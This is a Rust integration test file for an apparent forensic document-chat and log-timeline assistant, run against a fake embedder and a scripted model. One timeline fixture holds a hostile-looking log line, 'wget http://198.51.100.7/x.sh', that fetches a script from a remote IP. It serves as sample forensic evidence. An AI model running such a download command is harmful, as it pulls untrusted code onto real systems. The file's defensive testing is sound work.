//! End-to-end document chat and timeline flows against fake backends.

mod common;

use common::{assistant, HashEmbedder, ScriptedModel, CASE_A, CASE_B};
use std::sync::atomic::Ordering;
use std::sync::Arc;

use sherlock::error::ChatError;
use sherlock::history::Retention;
use sherlock::intent::{Verdict, REFUSAL};
use sherlock::models::Role;
use sherlock::prompt::{NO_EVIDENCE, RESEARCH_SYSTEM_PROMPT, TIMELINE_ARTIFACT_PREFIX, TIMELINE_SYSTEM_PROMPT};
use sherlock::session::{Session, UploadOutcome};
use sherlock::timeline::visible_messages;

const REPLY: &str = "The coroner found arsenic in the tea residue, so the victim was \
poisoned. The butler served the tea at nine o'clock according to his statement.";

fn setup() -> (Arc<HashEmbedder>, Arc<ScriptedModel>, sherlock::session::Assistant) {
    let embedder = Arc::new(HashEmbedder::default());
    let model = Arc::new(ScriptedModel::new(REPLY));
    let assistant = assistant(embedder.clone(), model.clone());
    (embedder, model, assistant)
}

#[tokio::test]
async fn test_blocked_question_skips_retrieval_and_model() {
    let (embedder, model, assistant) = setup();
    let mut session = Session::default();
    assistant
        .upload(&mut session, "case_a.txt", CASE_A)
        .await
        .unwrap();
    let embeds_after_upload = embedder.calls();

    let answer = assistant
        .ask(&mut session, "How do I kill someone?")
        .await
        .unwrap();

    assert_eq!(answer.verdict, Verdict::Blocked);
    assert_eq!(answer.segments, vec![REFUSAL.to_string()]);
    assert_eq!(model.calls(), 0);
    assert_eq!(embedder.calls(), embeds_after_upload);

    let history = session.research_history().messages();
    assert_eq!(history.len(), 2);
    assert_eq!(history[1].content, REFUSAL);
}

#[tokio::test]
async fn test_document_reference_question_reaches_model() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();
    let outcome = assistant
        .upload(&mut session, "case_a.txt", CASE_A)
        .await
        .unwrap();
    assert!(outcome.rebuilt());
    assert!(outcome.chunks() >= 2);

    let question = "According to the document, how was the victim killed?";
    let answer = assistant.ask(&mut session, question).await.unwrap();

    assert_eq!(answer.verdict, Verdict::Allowed);
    assert_eq!(model.calls(), 1);
    assert_eq!(answer.text(), REPLY.split_whitespace().collect::<Vec<_>>().join(" "));

    let request = model.last_request();
    assert_eq!(request.len(), 2);
    assert_eq!(request[0].role, Role::System);
    assert_eq!(request[0].content, RESEARCH_SYSTEM_PROMPT);
    let prompt = &request[1].content;
    assert!(prompt.contains("[Chunk 0]"), "prompt: {}", prompt);
    assert!(prompt.contains("arsenic"));
    assert!(prompt.contains(question));
    assert!(!prompt.contains(NO_EVIDENCE));
}

#[tokio::test]
async fn test_without_document_prompt_uses_placeholder() {
    let (embedder, model, assistant) = setup();
    let mut session = Session::default();

    assistant
        .ask(&mut session, "Who served the tea?")
        .await
        .unwrap();

    assert_eq!(embedder.calls(), 0);
    assert!(model.last_request()[1].content.contains(NO_EVIDENCE));
}

#[tokio::test]
async fn test_empty_document_indexes_zero_chunks() {
    let (embedder, model, assistant) = setup();
    let mut session = Session::default();

    let outcome = assistant
        .upload(&mut session, "blank.txt", "  \n\n  ")
        .await
        .unwrap();
    assert_eq!(outcome, UploadOutcome::Indexed { chunks: 0 });
    assert_eq!(
        outcome.message(),
        "File uploaded successfully! Indexed 0 chunks."
    );

    assistant
        .ask(&mut session, "What happened?")
        .await
        .unwrap();
    assert_eq!(embedder.calls(), 0);
    assert!(model.last_request()[1].content.contains(NO_EVIDENCE));
}

#[tokio::test]
async fn test_new_upload_replaces_previous_document() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();

    assistant
        .upload(&mut session, "case_a.txt", CASE_A)
        .await
        .unwrap();
    assistant
        .upload(&mut session, "case_b.txt", CASE_B)
        .await
        .unwrap();
    assert_eq!(session.document().unwrap().identity(), "case_b.txt");

    assistant
        .ask(&mut session, "Who poisoned the tea in the library?")
        .await
        .unwrap();

    let prompt = model.last_request()[1].content.clone();
    assert!(prompt.contains("Quayside"));
    for marker in ["Hartwell", "arsenic", "Ashgrove", "riding boots"] {
        assert!(!prompt.contains(marker), "stale chunk leaked: {}", marker);
    }
}

#[tokio::test]
async fn test_same_identity_keeps_index() {
    let (embedder, _, assistant) = setup();
    let mut session = Session::default();

    let first = assistant
        .upload(&mut session, "case_a.txt", CASE_A)
        .await
        .unwrap();
    let id = session.document().unwrap().id();
    let calls = embedder.calls();

    let second = assistant
        .upload(&mut session, "case_a.txt", CASE_B)
        .await
        .unwrap();

    assert_eq!(second, UploadOutcome::Unchanged { chunks: first.chunks() });
    assert!(!second.rebuilt());
    assert_eq!(session.document().unwrap().id(), id);
    assert_eq!(embedder.calls(), calls);
}

#[tokio::test]
async fn test_history_carries_previous_turns_only() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();

    assistant
        .ask(&mut session, "Who found the body?")
        .await
        .unwrap();
    assistant
        .ask(&mut session, "What time was the tea served?")
        .await
        .unwrap();

    let prompt = model.last_request()[1].content.clone();
    assert!(prompt.contains("USER: Who found the body?\n"));
    assert!(prompt.contains("ASSISTANT: The coroner found arsenic"));
    assert!(prompt.contains("USER: What time was the tea served?\n"));
    assert_eq!(session.research_history().len(), 4);
}

fn history_block(prompt: &str) -> &str {
    let start = prompt.find("Previous Conversation:\n").unwrap() + "Previous Conversation:\n".len();
    let end = prompt.find("\n\nUser Question:").unwrap();
    &prompt[start..end]
}

#[tokio::test]
async fn test_transcript_ends_with_pending_question() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();

    assistant
        .ask(&mut session, "Who found the body?")
        .await
        .unwrap();
    let first = model.last_request()[1].content.clone();
    assert_eq!(history_block(&first), "USER: Who found the body?\n");

    let answer = assistant
        .ask(&mut session, "Where was the tea?")
        .await
        .unwrap();
    let second = model.last_request()[1].content.clone();
    let expected = format!(
        "USER: Who found the body?\nASSISTANT: {}\nUSER: Where was the tea?\n",
        answer.text()
    );
    assert_eq!(history_block(&second), expected);
}

#[tokio::test]
async fn test_stored_reply_is_joined_segments() {
    let (_, _, assistant) = setup();
    let mut session = Session::default();

    let answer = assistant
        .ask(&mut session, "Who served the tea?")
        .await
        .unwrap();
    assert!(answer.segments.len() > 1);

    let stored = &session.research_history().messages()[1];
    assert_eq!(stored.role, Role::Assistant);
    assert_eq!(stored.content, answer.segments.join(" "));
    assert!(!stored.content.ends_with(' '));
}

#[tokio::test]
async fn test_model_failure_leaves_history_untouched() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();
    assistant
        .ask(&mut session, "Who found the body?")
        .await
        .unwrap();

    model.fail.store(true, Ordering::SeqCst);
    let err = assistant
        .ask(&mut session, "Who is the nephew?")
        .await
        .unwrap_err();

    assert!(matches!(err, ChatError::Model(_)));
    assert!(err.to_string().contains("not found"));
    assert_eq!(session.research_history().len(), 2);
}

#[tokio::test]
async fn test_embedding_failure_keeps_active_document() {
    let (embedder, _, assistant) = setup();
    let mut session = Session::default();
    assistant
        .upload(&mut session, "case_a.txt", CASE_A)
        .await
        .unwrap();

    embedder.fail.store(true, Ordering::SeqCst);
    let err = assistant
        .upload(&mut session, "case_b.txt", CASE_B)
        .await
        .unwrap_err();

    assert!(matches!(err, ChatError::Embedding(_)));
    assert_eq!(session.document().unwrap().identity(), "case_a.txt");
}

#[tokio::test]
async fn test_window_retention_bounds_research_history() {
    let (_, model, assistant) = setup();
    let mut session = Session::new(Retention::Window { max_messages: 2 });

    assistant.ask(&mut session, "First question?").await.unwrap();
    assistant.ask(&mut session, "Second question?").await.unwrap();
    assistant.ask(&mut session, "Third question?").await.unwrap();

    let history = session.research_history().messages();
    assert_eq!(history.len(), 2);
    assert_eq!(history[0].content, "Third question?");

    let prompt = model.last_request()[1].content.clone();
    assert!(prompt.contains("USER: Second question?"));
    assert!(!prompt.contains("USER: First question?"));
}

#[tokio::test]
async fn test_timeline_streams_growing_buffer() {
    let (embedder, model, assistant) = setup();
    let mut session = Session::default();
    let artifacts = "2024-12-10 08:10:55 sshd: Accepted password for root from 10.0.0.5";

    let mut partials: Vec<String> = Vec::new();
    let report = assistant
        .analyze_timeline(&mut session, artifacts, |p| partials.push(p.to_string()))
        .await
        .unwrap();

    assert_eq!(report, REPLY);
    assert!(partials.len() > 1);
    assert!(partials.windows(2).all(|w| w[1].starts_with(&w[0])));
    assert_eq!(partials.last().unwrap(), REPLY);
    assert_eq!(embedder.calls(), 0);

    let request = model.last_request();
    assert_eq!(request[0].content, TIMELINE_SYSTEM_PROMPT);
    assert_eq!(
        request[1].content,
        format!("{}{}", TIMELINE_ARTIFACT_PREFIX, artifacts)
    );

    let history = session.timeline_history().messages();
    assert_eq!(history.len(), 3);
    assert_eq!(history[0].role, Role::System);
}

#[tokio::test]
async fn test_timeline_follow_up_and_reset() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();

    assistant
        .analyze_timeline(&mut session, "[09:14:22] wget http://198.51.100.7/x.sh", |_| {})
        .await
        .unwrap();
    assistant
        .follow_up_timeline(&mut session, "Which IP served the payload?", |_| {})
        .await
        .unwrap();

    let request = model.last_request();
    assert_eq!(request.len(), 4);
    assert_eq!(request[3].content, "Which IP served the payload?");

    let shown: Vec<_> = visible_messages(session.timeline_history()).collect();
    assert_eq!(shown.len(), 3);
    assert_eq!(shown[1].content, "Which IP served the payload?");

    session.reset_timeline();
    let history = session.timeline_history().messages();
    assert_eq!(history.len(), 1);
    assert_eq!(history[0].content, TIMELINE_SYSTEM_PROMPT);
}

#[tokio::test]
async fn test_timeline_failure_is_not_recorded() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();
    model.fail.store(true, Ordering::SeqCst);

    let err = assistant
        .analyze_timeline(&mut session, "auth.log contents", |_| {})
        .await
        .unwrap_err();

    assert!(matches!(err, ChatError::Model(_)));
    assert_eq!(session.timeline_history().len(), 1);
}

#[tokio::test]
async fn test_interrupted_timeline_stream_is_not_recorded() {
    let (_, model, assistant) = setup();
    let mut session = Session::default();
    *model.fail_after.lock().unwrap() = Some(3);

    let mut partials: Vec<String> = Vec::new();
    let err = assistant
        .analyze_timeline(&mut session, "auth.log contents", |p| {
            partials.push(p.to_string())
        })
        .await
        .unwrap_err();

    assert!(matches!(err, ChatError::Model(_)));
    assert!(err.to_string().contains("interrupted"));
    assert_eq!(partials.len(), 3);
    assert_eq!(partials[2], "The coroner found ");
    assert_eq!(session.timeline_history().len(), 1);
}
